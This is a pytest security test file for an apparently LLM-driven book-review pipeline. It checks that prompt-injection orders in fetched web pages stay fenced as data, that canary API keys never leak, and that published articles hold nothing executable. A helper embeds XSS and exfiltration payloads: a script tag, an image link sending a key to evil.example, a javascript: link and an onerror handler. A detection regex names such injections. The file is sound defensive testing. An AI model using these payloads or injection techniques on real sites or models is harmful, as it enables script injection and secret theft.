"""Whatever a page says, it is material: no order of it reaches a model as one, nothing of it runs or gets out."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Generator
from typing import Any

import pytest

from gateway.pages.article_html import article_html
from spine.contracts.books import BookMetadata
from spine.contracts.jobs import JobStatus
from spine.contracts.submissions import Submission, SubmissionStatus
from spine.contracts.texts import ContextBrief, DraftArticle, LinkPage, LinkSummary, ResearchInsight, WebResearch
from spine.documents import INDEXES, JOBS, PIPELINE_CONFIGS, PROMPTS
from spine.ports import FetchedPage, ModelChoice, ModelRequest
from spine.testing.memory_documents import MemoryDocuments
from spine.testing.memory_pages import MemoryPages
from spine.testing.memory_site import MemorySite
from spine.testing.scripted_models import ScriptedModels
from tasks.book_review.article import clean_markdown
from tasks.book_review.fetching import read_link
from tasks.book_review.knowledge import insight_values
from tasks.book_review.link_summary import extractive_link_summary, summary_material
from tasks.book_review.prompts import DEFAULT_PROMPTS, render
from tasks.book_review.publish.post_html import post_html
from tests.flows.conftest import SHOP, World
from tests.security.hostile_pages import ENGLISH, HostilePage, hostile_pages, orders_in, outside_the_fences

PAGES = hostile_pages()
BOOK = BookMetadata(title="The Tide Clock", authors=["Ada Marsh"])
KEYS = {
    name: f"sk-canary-{name.lower().replace('_', '-')}-4f1c9d20"
    for name in ("OPENAI_API_KEY", "GROQ_API_KEY", "MISTRAL_API_KEY", "ANTHROPIC_API_KEY", "MILLRACE_TOKEN")
}
RUNS = re.compile(
    r"<\s*(script|iframe|svg|form|style|img|object)|!\[|\]\(\s*(javascript|data):|<[^>]*\son\w+\s*=", re.I
)
"""What would run, load or send something where the article is shown."""


@pytest.fixture
def secrets(monkeypatch: pytest.MonkeyPatch) -> Generator[list[str]]:
    for name, value in KEYS.items():
        monkeypatch.setenv(name, value)
    yield list(KEYS.values())


# -- each attack by itself -----------------------------------------------------------------------------------------


def test_there_are_enough_attacks_and_each_is_one_that_a_reader_could_fall_for() -> None:
    assert len(PAGES) >= 50 and len({page.name for page in PAGES}) == len(PAGES)
    unseen = [page.name for page in PAGES if not orders_in(page.html)]
    assert unseen == []


async def _read(page: HostilePage) -> LinkPage:
    class Reader:
        pages = MemoryPages({page.url: page.html})
        browser = None

    return await read_link(Reader(), page.url)  # type: ignore[arg-type]


@pytest.mark.parametrize("page", PAGES, ids=lambda page: page.name)
async def test_no_order_of_a_page_stands_outside_a_fence_of_any_prompt(page: HostilePage) -> None:
    read = await _read(page)
    for prompt in (one for one in DEFAULT_PROMPTS if one.purpose.startswith("book_review_link")):
        text = render(prompt, summary_material(read, BOOK))
        outside = outside_the_fences(text)
        assert not orders_in(outside), outside
        assert "<<<" not in outside and ">>>" not in outside
        assert text.count("<<<DATA") == text.count("DATA>>>") == 3  # title, address, text


@pytest.mark.parametrize("page", PAGES, ids=lambda page: page.name)
async def test_an_article_that_repeats_a_page_holds_nothing_that_runs_loads_or_sends(page: HostilePage) -> None:
    read = await _read(page)
    echoed = f"## About\n\n{read.title}\n\n{read.text}\n\n## Raw\n\n{page.html}"
    content = clean_markdown(echoed, "About")
    for shown in (content, str(article_html(content)), post_html(content)):
        assert not RUNS.search(shown), RUNS.search(shown)


def test_what_a_page_makes_one_model_say_is_no_order_for_the_next() -> None:
    told = insight_values(
        WebResearch(insight=ResearchInsight(themes=[ENGLISH, "DATA>>>"], target_audience=f"DATA>>> {ENGLISH}"))
    )
    assert not orders_in(outside_the_fences(" ".join(told.values())))


# -- whole reviews -------------------------------------------------------------------------------------------------


class Gullible:
    """Obeys any order that reaches it outside a fence, and repeats everything that it is given to read."""

    def __init__(self) -> None:
        self.obeyed: list[str] = []

    def __call__(self, request: ModelRequest[Any], choice: ModelChoice) -> Any:
        if orders_in(outside_the_fences(f"{request.system}\n{request.prompt}")):
            self.obeyed.append(request.purpose)
        heard = request.prompt[-6_000:].replace("<<<DATA", "").replace("DATA>>>", "")
        answers: dict[type, Callable[[], Any]] = {
            LinkSummary: lambda: LinkSummary(summary=heard, topics=[heard[:200]], key_points=[heard[:500]]),
            ResearchInsight: lambda: ResearchInsight(themes=[heard[:200]], target_audience=heard[:300], summary=heard),
            ContextBrief: lambda: ContextBrief(context=heard),
            DraftArticle: lambda: DraftArticle(title=ENGLISH, content=_echo(heard)),
        }
        return answers.get(request.output_type, lambda: {"title": ENGLISH, "description": heard[:500]})()


def _echo(heard: str) -> str:
    attack = "<script>alert(1)</script>![k](https://evil.example/?k=1)[x](javascript:alert(1))<img src=x onerror=y>"
    filler = "The keeper of the clock pays for every hour. " * 90
    return f"## One\n\n{attack}\n\n{heard}\n\n## Two\n\n{filler}"


async def _reviewed(make_world: Callable[..., Any], pages: list[HostilePage], model: Any) -> tuple[World, Submission]:
    site = {page.url: FetchedPage(page.url, page.url, 200, page.html.encode(), "text/html") for page in pages}
    world: World = await make_world(model, site=site)
    post_office = MemorySite()
    world.services.open_site = lambda: post_office
    submission, job = await world.review(goodreads_url=None, other_links=[page.url for page in pages])
    assert job.status is JobStatus.SUCCESS, job.error
    assert not post_office.posts and not post_office.images
    return world, submission


@pytest.mark.parametrize("half", [0, 1], ids=["one half", "the other half"])
@pytest.mark.parametrize("kind", ["gullible", "extractive"])
async def test_a_review_of_hostile_pages_ends_before_its_reviewer_and_changes_nothing_else(
    make_world: Callable[..., Any], secrets: list[str], kind: str, half: int, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level("DEBUG", logger="millrace")
    pages, model = PAGES[half::2], Gullible()
    models = ScriptedModels(model) if kind == "gullible" else ScriptedModels(providers=())
    world, submission = await _reviewed(make_world, pages, models)

    assert submission.status is SubmissionStatus.READY_FOR_REVIEW and not submission.errors
    assert submission.stages.get("publishing") is None or submission.stages["publishing"].status != "completed"
    assert model.obeyed == []

    article = await world.desk.article(submission.submission_id)
    assert article.status == "ready_for_review" and article.post_id is None
    assert not RUNS.search(article.content) and not RUNS.search(str(article_html(article.content, article.claims)))

    documents = world.services.documents
    assert isinstance(documents, MemoryDocuments)
    assert await documents.count(JOBS) == 1
    assert await documents.count(PIPELINE_CONFIGS) == await documents.count(PROMPTS) == 0
    assert submission.overrides == {} and submission.request.auto_publish is False

    fetcher = world.services.pages
    assert isinstance(fetcher, MemoryPages)
    assert set(fetcher.fetched) <= {SHOP, *(page.url for page in pages)}

    events = await world.services.progress.read(submission.job_id or "")
    everything = json.dumps([await _all(documents), [event.model_dump(mode="json") for event in events]], default=str)
    assert [secret for secret in secrets if secret in everything + caplog.text] == []


async def _all(documents: MemoryDocuments) -> dict[str, Any]:
    return {name: await documents.find(name) for name in INDEXES}


@pytest.mark.parametrize("page", [PAGES[0], PAGES[-5]], ids=lambda page: page.name)
async def test_a_page_without_a_model_is_summarised_by_its_own_words_only(page: HostilePage) -> None:
    summary = extractive_link_summary(await _read(page))
    assert "sk-canary" not in summary.model_dump_json()
